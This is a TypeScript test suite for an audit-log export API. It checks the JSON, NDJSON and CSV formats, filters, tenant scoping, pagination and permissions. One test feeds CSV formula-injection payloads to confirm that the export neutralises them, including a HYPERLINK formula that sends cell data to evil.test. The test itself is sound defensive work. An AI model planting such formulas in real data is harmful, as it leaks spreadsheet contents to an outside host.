// GET /audit-logs/export through HTTP: the three formats and their exact shapes, filters, scope,
// afterSeq resume, limits, bad input, the data.export entry, and who may call it.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { backends, testApp, type TestApp } from '../../test/support/app.js';
import { createApiKey, createOrg, createPartner, createUser, type TestOrg, type TestUser } from '../../test/support/factory.js';
import { as, assertProblem, login, type Session, loginWithMfa } from '../../test/support/clients.js';
import type { Database } from '../db/database.js';
import { SYSTEM_SCOPE, withTenant } from '../db/tenant-scope.js';
import type { Caller } from '../http/auth.js';
import { createAuditExportService } from './export.service.js';
import { createAuditRecorder } from './recorder.js';

type Entry = Record<string, unknown> & { id: string; orgId: string | null; seq: number | null; action: string };

const CSV_HEADER = 'id,orgId,seq,timestamp,actorType,actorId,actorEmail,action,resourceType,resourceId,resourceName,details,ipAddress,userAgent,result,errorMessage,prevChecksum,checksum';
const TRICKY_NAME = 'Comma, "quote"\nnew line';

/** RFC 4180 records; each field with whether it was quoted (to tell "" from null). */
function parseCsv(text: string): { value: string; quoted: boolean }[][] {
  const records: { value: string; quoted: boolean }[][] = [];
  let record: { value: string; quoted: boolean }[] = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    let quoted = false;
    if (text[i] === '"') {
      quoted = true;
      i++;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') (value += '"'), (i += 2);
        else if (text[i] === '"') break;
        else value += text[i++];
      }
      i++;
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') value += text[i++];
    }
    record.push({ value, quoted });
    if (text[i] === ',') i++;
    else {
      assert.equal(text.slice(i, i + 2), '\r\n', 'records end with CRLF');
      i += 2;
      records.push(record);
      record = [];
    }
  }
  return records;
}

for (const backend of backends()) {
  describe(`audit export on ${backend}`, () => {
    let t: TestApp;
    let orgA: TestOrg;
    let orgB: TestOrg;
    const u: Record<string, TestUser> = {};
    const s: Record<string, Session> = {};
    before(async () => {
      t = await testApp({ backend });
      const partner = await createPartner(t.db);
      orgA = await createOrg(t.db, partner.id);
      orgB = await createOrg(t.db, partner.id);
      const other = await createPartner(t.db);
      u.a = await createUser(t.db, { scope: 'organization', orgId: orgA.id });
      u.b = await createUser(t.db, { scope: 'organization', orgId: orgB.id });
      u.readonly = await createUser(t.db, { scope: 'organization', orgId: orgA.id, role: 'readonly' });
      u.partner = await createUser(t.db, { scope: 'partner', partnerId: partner.id });
      u.outsider = await createUser(t.db, { scope: 'partner', partnerId: other.id });
      u.system = await createUser(t.db, { scope: 'system' });
      for (const [k, user] of Object.entries(u)) s[k] = await loginWithMfa(t.app, user, t.clock);
      // Changes through the API, and a row with every awkward value the CSV must quote.
      await as(t.app, s.a!)({ method: 'PATCH', url: `/api/v1/users/${u.readonly!.id}`, payload: { name: 'Renamed Reader' } });
      await as(t.app, s.b!)({ method: 'PATCH', url: `/api/v1/users/${u.b!.id}`, payload: { name: 'B itself' } });
      const record = createAuditRecorder({ now: t.clock.now, onRecorded: () => {} });
      await withTenant(t.db, SYSTEM_SCOPE, (tx) =>
        record(tx, {
          orgId: orgA.id,
          actor: { type: 'system', id: null },
          action: 'script.execute',
          resource: { type: 'script', id: randomUUID(), name: TRICKY_NAME },
          details: { args: ['a,b', 'say "hi"'], nested: { empty: '', nothing: null } },
          userAgent: '',
          result: 'failure',
          errorMessage: 'exit 1',
        }),
      );
      await t.app.auditSealer.sealNow();
    });
    after(() => t.close());

    const exportAs = (who: string, query: string) => as(t.app, s[who]!)({ method: 'GET', url: `/api/v1/audit-logs/export?${query}` });
    const jsonExport = async (who: string, query: string) => {
      const res = await exportAs(who, `format=json&${query}`);
      assert.equal(res.statusCode, 200, res.body);
      return res.json() as { data: Entry[]; count: number; nextAfterSeq: number | null };
    };
    const withoutExports = (entries: Entry[]) => entries.filter((e) => e.action !== 'data.export');

    it('exports json with the /logs entries, newest first, and ndjson and csv with the same rows', async () => {
      const logs = (await as(t.app, s.a!)({ method: 'GET', url: '/api/v1/audit-logs/logs?limit=100' })).json().data as Entry[];
      const res = await exportAs('a', 'format=json');
      assert.equal(res.statusCode, 200, res.body);
      assert.match(String(res.headers['content-type']), /^application\/json/);
      assert.match(String(res.headers['content-disposition']), /^attachment; filename="audit-export-.*\.json"$/);
      const body = res.json();
      assert.deepEqual(Object.keys(body).sort(), ['count', 'data', 'nextAfterSeq']);
      assert.deepEqual(body.data, logs, 'the export is /logs, entry for entry, in the same order');
      assert.equal(body.count, logs.length);
      assert.equal(body.nextAfterSeq, null, 'newest first over the caller’s reach: no single chain to resume');

      const nd = await exportAs('a', 'format=ndjson');
      assert.equal(nd.statusCode, 200);
      assert.match(String(nd.headers['content-type']), /^application\/x-ndjson/);
      assert.ok(nd.body.endsWith('\n'));
      const lines = nd.body.trimEnd().split('\n').map((line) => JSON.parse(line) as Entry);
      assert.deepEqual(withoutExports(lines), withoutExports(body.data));
      assert.equal(lines[0]!.action, 'data.export', 'the first export was recorded, and is the newest row now');
    });

    it('exports csv with the exact header, RFC 4180 quoting, details as JSON text and null as an empty field', async () => {
      const { data } = await jsonExport('a', 'action=script.execute');
      const res = await exportAs('a', 'format=csv&action=script.execute');
      assert.equal(res.statusCode, 200);
      assert.match(String(res.headers['content-type']), /^text\/csv/);
      assert.ok(res.body.startsWith(`${CSV_HEADER}\r\n`));
      assert.ok(res.body.includes('"Comma, ""quote""\nnew line"'), res.body);
      const [header, ...records] = parseCsv(res.body);
      assert.deepEqual(header!.map((f) => f.value), CSV_HEADER.split(','));
      assert.equal(records.length, 1);
      assert.equal(data.length, 1);
      const entry = data[0]!;
      const fields = Object.fromEntries(header!.map((h, i) => [h.value, records[0]![i]!]));
      for (const column of CSV_HEADER.split(',')) {
        const value = entry[column];
        const field = fields[column]!;
        if (value === null) assert.deepEqual(field, { value: '', quoted: false }, `${column} is null`);
        else if (column === 'details') assert.deepEqual(JSON.parse(field.value), value);
        else assert.equal(field.value, String(value), column);
      }
      assert.equal(entry.resourceName, TRICKY_NAME);
      assert.deepEqual(fields.userAgent, { value: '', quoted: true }, 'an empty string is "" and not an empty field');
      assert.equal(entry.userAgent, '');
      assert.equal(entry.errorMessage, 'exit 1');
      assert.equal(fields.actorId!.value, '');
    });

    it('neutralises every cell a spreadsheet would run as a formula, in a way that undoes exactly', async () => {
      // The attack: a user agent is stored as sent, and a spreadsheet opening the CSV runs it.
      const hyperlink = '=HYPERLINK("http://evil.test/?d="&A1,"Open")';
      const patched = await as(t.app, s.a!)({ method: 'PATCH', url: `/api/v1/users/${u.readonly!.id}`, headers: { 'user-agent': hyperlink }, payload: { name: 'Formula Victim' } });
      assert.equal(patched.statusCode, 200, patched.body);
      const record = createAuditRecorder({ now: t.clock.now, onRecorded: () => {} });
      const stored = { resourceName: '@SUM(1+1)', actorEmail: '+1-555-0100', errorMessage: "'-already quoted", userAgent: '\t=cmd' };
      await withTenant(t.db, SYSTEM_SCOPE, (tx) =>
        record(tx, {
          orgId: orgA.id,
          actor: { type: 'system', id: null, email: stored.actorEmail },
          action: 'policy.evaluate',
          resource: { type: 'policy', id: randomUUID(), name: stored.resourceName },
          details: { formula: '=1+1' },
          userAgent: stored.userAgent,
          result: 'failure',
          errorMessage: stored.errorMessage,
        }),
      );
      await t.app.auditSealer.sealNow(); // the json and csv exports below must see the same chain fields
      const undo = (cell: string) => (/^'+[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);
      for (const action of ['user.update', 'policy.evaluate']) {
        const { data } = await jsonExport('a', `action=${action}`);
        const [header, ...records] = parseCsv((await exportAs('a', `format=csv&action=${action}`)).body);
        assert.equal(records.length, data.length);
        records.forEach((fields, i) => {
          for (const [c, column] of header!.map((h) => h.value).entries()) {
            const cell = fields[c]!.value;
            assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${action} ${column} starts a formula: ${cell}`);
            const value = data[i]![column];
            if (value !== null && column !== 'details') assert.equal(undo(cell), String(value), `${column} undoes to the stored value`);
          }
        });
        const cells = records.map((fields) => Object.fromEntries(header!.map((h, c) => [h.value, fields[c]!.value])));
        if (action === 'user.update') assert.ok(cells.some((c) => c.userAgent === `'${hyperlink}`), 'the user agent is kept, behind a quote');
        else {
          assert.deepEqual(
            { resourceName: cells[0]!.resourceName, actorEmail: cells[0]!.actorEmail, errorMessage: cells[0]!.errorMessage, userAgent: cells[0]!.userAgent },
            { resourceName: "'@SUM(1+1)", actorEmail: "'+1-555-0100", errorMessage: "''-already quoted", userAgent: "'\t=cmd" },
          );
          assert.deepEqual(JSON.parse(cells[0]!.details!), { formula: '=1+1' }, 'details stays JSON text');
        }
      }
    });

    it('applies the /logs filters: user, action, resource and dates, literally and case-insensitively', async () => {
      const byUser = await jsonExport('a', `user=${encodeURIComponent(u.a!.email.toUpperCase())}`);
      assert.ok(byUser.count >= 2 && byUser.data.every((e) => e.actorEmail === u.a!.email));
      const byAction = await jsonExport('a', 'action=USER.UPDATE');
      assert.ok(byAction.count >= 1 && byAction.data.every((e) => e.action === 'user.update'));
      const byResource = await jsonExport('a', `resource=${encodeURIComponent('comma, "QUOTE"')}`);
      assert.deepEqual(byResource.data.map((e) => e.action), ['script.execute']);
      assert.equal((await jsonExport('a', 'action=user_update')).count, 0, '_ matches itself only');
      const future = new Date(Date.now() + 86_400_000).toISOString();
      assert.equal((await jsonExport('a', `from=${future}`)).count, 0);
      assert.ok((await jsonExport('a', `to=${future}`)).count > 0);
    });

    it('exports only the chains in the caller’s reach', async () => {
      const a = await jsonExport('a', '');
      assert.ok(a.count > 0 && a.data.every((e) => e.orgId === orgA.id));
      for (const [who, query] of [['a', `orgId=${orgB.id}`], ['a', 'orgId=platform'], ['outsider', `orgId=${orgA.id}`], ['b', `orgId=${orgA.id}&afterSeq=0`]] as const) {
        const other = await jsonExport(who, query);
        assert.deepEqual([other.count, other.data], [0, []], `${who} ${query}: empty, as /logs`);
      }
      const partner = new Set((await jsonExport('partner', '')).data.map((e) => e.orgId));
      assert.deepEqual([...partner].sort(), [orgA.id, orgB.id].sort());
      const outsider = await jsonExport('outsider', '');
      assert.ok(outsider.data.every((e) => e.orgId !== orgA.id && e.orgId !== orgB.id));
      const everyOrg = new Set((await jsonExport('system', 'action=user.update')).data.map((e) => e.orgId));
      assert.ok(everyOrg.has(orgA.id) && everyOrg.has(orgB.id), 'system scope: every organization');
      const partnerLogins = await jsonExport('system', `user=${encodeURIComponent(u.partner!.email)}&action=user.login`);
      assert.ok(partnerLogins.count > 0 && partnerLogins.data.every((e) => e.orgId === null), 'and the platform chain');
      const platform = await jsonExport('system', 'orgId=platform');
      assert.ok(platform.count > 0 && platform.data.every((e) => e.orgId === null));
    });

    it('resumes a chain after a seq, with sealed rows only, in seq order', async () => {
      const first = await jsonExport('a', `orgId=${orgA.id}&afterSeq=0&limit=2`);
      assert.deepEqual(first.data.map((e) => e.seq), [1, 2]);
      assert.equal(first.nextAfterSeq, 2);
      const second = await jsonExport('a', `orgId=${orgA.id}&afterSeq=${first.nextAfterSeq}&limit=2`);
      assert.deepEqual(second.data.map((e) => e.seq), [3, 4]);
      assert.equal(second.data[0]!.prevChecksum, first.data[1]!.checksum);
      const beyond = await jsonExport('a', `orgId=${orgA.id}&afterSeq=1000000`);
      assert.deepEqual([beyond.count, beyond.nextAfterSeq], [0, 1000000]);

      await t.app.auditSealer.stop(); // a pending row waits for a later pull
      try {
        await as(t.app, s.a!)({ method: 'PATCH', url: `/api/v1/users/${u.readonly!.id}`, payload: { name: 'Pending Reader' } });
        const all = await jsonExport('a', `orgId=${orgA.id}&afterSeq=0`);
        assert.ok(all.data.every((e) => e.seq !== null));
        assert.deepEqual(all.data.map((e) => e.seq), all.data.map((_, i) => i + 1));
        assert.equal(all.nextAfterSeq, all.data.length);
        const newest = await jsonExport('a', `orgId=${orgA.id}`);
        assert.ok(newest.data.some((e) => e.seq === null), 'without afterSeq pending rows show, as in /logs');
        assert.equal(newest.nextAfterSeq, Math.max(...newest.data.map((e) => e.seq ?? 0)));
      } finally {
        t.app.auditSealer.start();
      }
      await t.app.auditSealer.sealNow();
    });

    it('clamps limit into 1..10000', async () => {
      assert.equal((await jsonExport('a', 'limit=0')).count, 1);
      assert.equal((await jsonExport('a', 'limit=-5')).count, 1);
      assert.equal((await jsonExport('a', 'limit=3')).count, 3);
      const all = await jsonExport('a', '');
      assert.equal((await jsonExport('a', 'limit=99999')).count, all.count + 1); // + the previous export's entry
    });

    it('answers bad parameters with 400 VALIDATION_FAILED', async () => {
      const now = Date.now();
      for (const query of [
        'format=xml', 'limit=abc', 'limit=1.5', 'afterSeq=3', `afterSeq=99999999999999999999&orgId=${orgA.id}`, `afterSeq=-1&orgId=${orgA.id}`, `afterSeq=x&orgId=${orgA.id}`,
        'from=yesterday', 'to=2024-13-45', 'orgId=nope', `from=${new Date(now).toISOString()}&to=${new Date(now - 1000).toISOString()}`,
      ]) {
        assertProblem(await exportAs('a', query), 400, 'VALIDATION_FAILED');
      }
    });

    it('records data.export in the exported organization’s chain, readable at once', async () => {
      await t.app.auditSealer.stop(); // readable before it is sealed
      try {
        const res = await exportAs('a', 'format=csv&action=user.');
        const exported = parseCsv(res.body).length - 1;
        const entries = (await as(t.app, s.a!)({ method: 'GET', url: '/api/v1/audit-logs/logs?action=data.export&limit=100' })).json().data as Entry[];
        const entry = entries.find((e) => (e.details as { format: string }).format === 'csv');
        assert.equal(entry!.orgId, orgA.id);
        assert.equal(entry!.actorEmail, u.a!.email);
        assert.equal(entry!.category, 'compliance');
        assert.deepEqual(entry!.details, { format: 'csv', filters: { action: 'user.', limit: 10000 }, count: exported });

        // Several organizations at once: the partner's export goes to the platform chain; one named organization to its own.
        await exportAs('partner', 'format=ndjson&limit=5');
        await exportAs('partner', `format=json&orgId=${orgB.id}`);
        const platform = (await as(t.app, s.system!)({ method: 'GET', url: `/api/v1/audit-logs/logs?orgId=platform&action=data.export&user=${encodeURIComponent(u.partner!.email)}` })).json().data as Entry[];
        assert.deepEqual(platform.find((e) => (e.details as { format: string }).format === 'ndjson')?.details, { format: 'ndjson', filters: { limit: 5 }, count: 5 });
        const inB = (await as(t.app, s.b!)({ method: 'GET', url: `/api/v1/audit-logs/logs?action=data.export&user=${encodeURIComponent(u.partner!.email)}` })).json().data as Entry[];
        assert.equal(inB.length, 1);
        assert.deepEqual((inB[0]!.details as { filters: unknown }).filters, { orgId: orgB.id, limit: 10000 });
      } finally {
        t.app.auditSealer.start();
      }
    });

    // A system caller may name any organization id; one that never existed exported nothing and used
    // to fail the entry's foreign key after the answer had begun (a cut-off body, or a 500).
    it('answers an empty export for an organization that never existed, recorded in the platform chain', async () => {
      const ghost = randomUUID();
      for (const format of ['json', 'ndjson', 'csv'] as const) {
        const res = await exportAs('system', `format=${format}&orgId=${ghost}`);
        assert.equal(res.statusCode, 200, res.body);
        if (format === 'json') assert.deepEqual(res.json(), { data: [], count: 0, nextAfterSeq: null });
        if (format === 'ndjson') assert.equal(res.body, '');
        if (format === 'csv') assert.equal(parseCsv(res.body).length, 1);
      }
      const chained = await exportAs('system', `format=json&orgId=${ghost}&afterSeq=0`);
      assert.deepEqual(chained.json(), { data: [], count: 0, nextAfterSeq: 0 });
      const platform = (await as(t.app, s.system!)({ method: 'GET', url: `/api/v1/audit-logs/logs?orgId=platform&action=data.export&limit=100` })).json().data as Entry[];
      const recorded = platform.filter((e) => (e.details as { filters: { orgId?: string } }).filters.orgId === ghost);
      assert.equal(recorded.length, 4);
      assert.ok(recorded.every((e) => e.orgId === null && (e.details as { count: number }).count === 0));
    });

    it('admits API keys with audit:export (or *), and refuses audit:read keys and roles without the permission', async () => {
      const exporter = await createApiKey(t.db, orgA.id, { scopes: ['audit:export'] });
      const res = await t.app.inject({ method: 'GET', url: '/api/v1/audit-logs/export?format=ndjson&limit=2', headers: { 'x-api-key': exporter.key } });
      assert.equal(res.statusCode, 200, res.body);
      assert.ok(res.body.trimEnd().split('\n').every((line) => (JSON.parse(line) as Entry).orgId === orgA.id));
      const star = await createApiKey(t.db, orgA.id, { scopes: ['*'] });
      assert.equal((await t.app.inject({ method: 'GET', url: '/api/v1/audit-logs/export', headers: { 'x-api-key': star.key } })).statusCode, 200);
      const entry = (await jsonExport('a', 'action=data.export')).data.find((e) => e.actorId === star.id);
      assert.equal(entry!.actorType, 'api_key');
      assert.equal(entry!.orgId, orgA.id);

      const reader = await createApiKey(t.db, orgA.id, { scopes: ['audit:read'] });
      assertProblem(await t.app.inject({ method: 'GET', url: '/api/v1/audit-logs/export', headers: { 'x-api-key': reader.key } }), 403, 'API_KEY_SCOPE_DENIED');
      assertProblem(await exportAs('readonly', 'format=json'), 403, 'PERMISSION_DENIED');
      assertProblem(await t.app.inject({ method: 'GET', url: '/api/v1/audit-logs/export' }), 401, 'UNAUTHENTICATED');
    });
  });
}

async function insertRows(t: TestApp, orgId: string, count: number, timestamp: Date): Promise<void> {
  await withTenant(t.db, SYSTEM_SCOPE, (tx) =>
    tx.query(
      `insert into audit_entries (id, org_id, timestamp, actor_type, action, resource_type, resource_name, details, result)
       select gen_random_uuid(), $1, $2, 'system', 'device.update', 'device', 'host-' || g, jsonb_build_object('n', g), 'success'
         from generate_series(1, $3::int) g`,
      [orgId, timestamp, count],
    ),
  );
}

describe('audit export across pages', () => {
  let t: TestApp;
  let org: TestOrg;
  let session: Session;
  const ROWS = 2500; // three pages, every row with the same timestamp: the keyset must break ties by id
  before(async () => {
    t = await testApp();
    org = await createOrg(t.db, (await createPartner(t.db)).id);
    session = await login(t.app, await createUser(t.db, { scope: 'system' }));
    await insertRows(t, org.id, ROWS, new Date('2026-01-02T03:04:05.678Z'));
    await t.app.auditSealer.sealNow();
  });
  after(() => t.close());
  const get = (query: string) => as(t.app, session)({ method: 'GET', url: `/api/v1/audit-logs/export?orgId=${org.id}&${query}` });

  it('streams every row once, newest first with ties in id order', async () => {
    const res = await get('format=ndjson');
    const entries = res.body.trimEnd().split('\n').map((line) => JSON.parse(line) as Entry);
    assert.equal(entries.length, ROWS);
    const ids = entries.map((e) => e.id);
    assert.equal(new Set(ids).size, ROWS);
    assert.deepEqual(ids, [...ids].sort().reverse());
  });

  it('resumes in seq order across pages and stops at the limit', async () => {
    const all = (await get('format=json&afterSeq=0')).json();
    // The rows, then (once sealed) the data.export entries of the exports before this one.
    assert.ok(all.count >= ROWS, `count ${all.count}`);
    // Seq order without gaps. (Once in CI, count read one less than the rows sent while earlier
    // exports' entries were being sealed; under investigation, so this checks the rows themselves.)
    assert.deepEqual(all.data.map((e: Entry) => e.seq), Array.from({ length: all.data.length }, (_, i) => i + 1));
    const tail = (await get('format=json&afterSeq=1000&limit=1200')).json();
    assert.deepEqual([tail.count, tail.data[0].seq, tail.nextAfterSeq], [1200, 1001, 2200]);
  });

  it('reads a page as the client reads one, and records an export the client abandoned', async () => {
    const big = await createOrg(t.db, org.partnerId);
    await insertRows(t, big.id, 10_000, new Date());
    let transactions = 0;
    const counting: Database = { ...t.db, transaction: (...args) => (transactions++, t.db.transaction(...args)) };
    const service = createAuditExportService({ db: counting, recordAudit: createAuditRecorder({ now: Date.now, onRecorded: () => {} }), now: Date.now });
    const caller = {
      kind: 'user', id: randomUUID(), userId: null, email: 'reader@example.test', name: null, scope: 'system', partnerId: null, orgId: null,
      role: 'admin', permissions: new Set(['audit:export']), mfaEnabled: false, mfaVerified: false, accessibleOrgIds: null,
      canAccessOrg: () => true, partnerStatus: null, orgStatus: null, sessionId: null, tenant: SYSTEM_SCOPE,
    } satisfies Caller;
    const out = await service.open(caller, { ip: '192.0.2.1', userAgent: 'test', log: { info() {}, warn() {}, error() {} } }, { format: 'csv', orgId: big.id });
    assert.equal(transactions, 1, 'the first page is read before the response starts');
    let chunks = 0;
    for await (const _ of out.body) if (++chunks === 2) break; // the header and some rows; then the client goes away
    assert.ok(transactions <= 3, `pages read ahead of the client: ${transactions - 1} of 10`);
    let entry: Entry | undefined;
    for (let i = 0; i < 50 && !entry; i++) {
      await new Promise((resolve) => setTimeout(resolve, 20));
      const found = (await as(t.app, session)({ method: 'GET', url: `/api/v1/audit-logs/logs?orgId=${big.id}&action=data.export` })).json().data as Entry[];
      entry = found[0];
    }
    const details = entry!.details as { count: number; completed: boolean };
    assert.equal(details.completed, false);
    assert.ok(details.count > 0 && details.count <= 2000, `rows serialised when the client left: ${details.count}`);
  });
});
